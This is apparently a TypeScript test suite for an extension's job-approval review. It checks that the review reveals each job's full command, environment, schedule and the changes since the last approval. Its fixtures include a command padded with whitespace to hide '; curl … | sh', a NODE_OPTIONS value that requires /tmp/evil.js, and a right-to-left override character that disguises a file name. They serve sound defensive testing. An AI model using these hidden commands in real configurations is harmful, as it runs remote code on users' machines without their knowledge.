import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import type { JobDefinition } from '../../../src/core/model';
import { type ApprovalRecord, approvalSnapshot } from '../../../src/extension/approval';
import { changesInWords, type ReviewInput, renderReview, summarizeReview } from '../../../src/extension/approvalDocument';

const padded = `npm test${' '.repeat(120)}; curl https://x.invalid/p | sh`;
const evil: JobDefinition[] = [
	{ id: 'test', name: 'Test', command: padded, cwd: '/w/repo', env: { NODE_OPTIONS: '--require /tmp/evil.js', CI: '1' } },
	{ id: 'build', command: 'set -e\nnpm ci\n\tnpm run build', cwd: '/w/repo/packages/app' },
	{ id: 'nightly', command: 'echo nightly', cwd: '/w/repo', schedule: { kind: 'cron', expression: '0 3 * * *' }, dependsOn: ['build'] },
	{ id: 'sneaky', command: 'ls \u202e#hs.txt', cwd: '/w/repo' },
];

function input(jobs: readonly JobDefinition[], stored?: ApprovalRecord | 'legacy'): ReviewInput {
	return { folderName: 'repo', folderPath: '/w/repo', file: '/w/repo/.jobs.json', jobs: approvalSnapshot(jobs), stored, requireApproval: true };
}

test('the review shows every job with its whole command, cwd and env values', () => {
	const text = renderReview(input(evil));
	assert.match(text, /npm test«120 spaces»; curl https:\/\/x\.invalid\/p \| sh/);
	assert.match(text, /NODE_OPTIONS=--require \/tmp\/evil\.js/);
	assert.match(text, /CI=1/);
	assert.match(text, /cwd {7}\/w\/repo\/packages\/app/);
	assert.match(text, /ls «U\+202E RLO»#hs\.txt/);
	for (const job of evil) {
		assert.ok(text.includes(`\n${job.id}`), `job ${job.id} is listed`);
	}
});

test('no job is left out and nothing is cut, however many and however long', () => {
	const many = Array.from({ length: 200 }, (_, i) => ({ id: `job${i}`, command: `echo ${String(i).repeat(300)}`, cwd: '/w' }));
	const text = renderReview(input(many));
	for (const job of many) {
		assert.ok(text.includes(`\n${job.id}\n    command   ${job.command}\n`), `${job.id} is shown whole`);
	}
	assert.doesNotMatch(text, /\.\.\. and \d+ more/);
});

test('a multi-line command keeps one marked break per line, continued under its first line', () => {
	const text = renderReview(input(evil));
	assert.ok(text.includes('    command   set -e«\\n»\n              npm ci«\\n»\n              «\\t»npm run build\n'), text);
});

test('the document has no control or invisible character of its own', () => {
	const text = renderReview(input([...evil, { id: 'ctl', command: 'a\x1b]0;title\x07\r\u2028\u2029b', cwd: '/w', env: { 'K\u200b': 'v\u0085' } }]));
	assert.doesNotMatch(text.replace(/\n/g, ''), /[\p{Cc}\p{Cf}\p{Co}\p{Cs}\p{Zl}\p{Zp}\u00a0\u3000]/u);
});

test('how each job starts: on its schedule, as a dependency of a scheduled job, or only when run', () => {
	const text = renderReview(input(evil));
	assert.match(text, /\nnightly\n[^]*?runs {6}unattended: cron "0 3 \* \* \*"/);
	assert.match(text, /\nbuild\n[^]*?runs {6}unattended, as a dependency of a scheduled job/);
	assert.match(text, /\nsneaky\n[^]*?runs {6}only when you run it/);
});

test('on re-approval it lists what changed since, old and new, and what asks again', () => {
	const before: ApprovalRecord = {
		version: 2,
		approvedAt: '2026-01-01T00:00:00.000Z',
		jobs: approvalSnapshot([
			{ id: 'test', name: 'Test', command: 'npm test', cwd: '/w/repo', env: { CI: '1' } },
			{ id: 'old', command: 'echo old', cwd: '/w/repo' },
			{ id: 'nightly', command: 'echo nightly', cwd: '/w/repo', schedule: { kind: 'cron', expression: '0 3 * * *' }, dependsOn: ['build'] },
			{ id: 'build', command: 'set -e\nnpm ci\n\tnpm run build', cwd: '/w/repo/packages/app' },
		]),
	};
	const text = renderReview(input(evil, before));
	assert.match(text, /Changes since you allowed these jobs \(2026-01-01T00:00:00\.000Z\)/);
	assert.match(text, /\+ sneaky: new job .*needs approval/);
	assert.match(text, /- old: removed/);
	assert.match(text, /~ test: changed {3}<- needs approval\n {4}command {3}<- needs approval\n {8}was {7}npm test\n {8}now {7}npm test«120 spaces»; curl/);
	assert.match(text, /env NODE_OPTIONS {3}<- needs approval\n {8}was {7}\(not set\)\n {8}now {7}--require \/tmp\/evil\.js/);
	assert.doesNotMatch(text, /~ (build|nightly)/, 'unchanged jobs are not in the changes');
	assert.deepEqual(summarizeReview(input(evil, before)), { jobs: 4, unattended: 2, added: 1, changed: 1, removed: 1, asking: 2 });
	assert.equal(changesInWords(summarizeReview(input(evil, before))), '1 added, 1 changed, 1 removed');
});

test('a first review and a review after an old-style approval say so', () => {
	assert.match(renderReview(input(evil)), /You have not allowed the jobs of this folder before\./);
	assert.match(renderReview(input(evil, 'legacy')), /earlier version of these jobs through a prompt that did not show every detail/);
	assert.doesNotMatch(renderReview(input(evil, 'legacy')), /Changes since/);
});

test('with approval switched off, the review says that the jobs run without asking', () => {
	assert.match(renderReview({ ...input(evil), requireApproval: false }), /Approval is switched off in your settings/);
});

test('a job with its own shell shows it in full; a job without says nothing of one', () => {
	const text = renderReview(input([{ id: 'ps', command: 'Get-Date', cwd: '/w/repo', shell: { executable: 'C:\\Tools\\pwsh.exe', args: ['-NoProfile', '-Command'] } }, evil[1]]));
	assert.match(text, /\nps\n {4}command {3}Get-Date\n {4}shell {5}\["C:\\\\Tools\\\\pwsh\.exe","-NoProfile","-Command"\]\n {4}cwd /);
	assert.equal(text.match(/^ {4}shell /gm)?.length, 1);
});
